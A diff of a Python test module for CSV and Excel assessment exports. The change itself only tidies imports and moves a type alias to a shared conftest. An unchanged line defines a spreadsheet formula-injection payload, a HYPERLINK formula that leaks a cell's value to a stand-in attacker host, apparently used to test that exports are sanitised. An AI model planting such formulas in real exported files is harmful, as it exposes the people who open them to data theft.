@@ -4,13 +4,12 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Callable
 
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
-from app.accounts.models import Role, User
+from app.accounts.models import Role
 from app.assessments import exports
 from app.assessments import service as assessment_service
 from app.assessments.views import AssessmentRow
@@ -22,8 +21,8 @@ from tests.assessments.staff_helpers import (
     make_submitted,
     work_samples,
 )
+from tests.conftest import MakeUser
 
-MakeUser = Callable[..., User]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
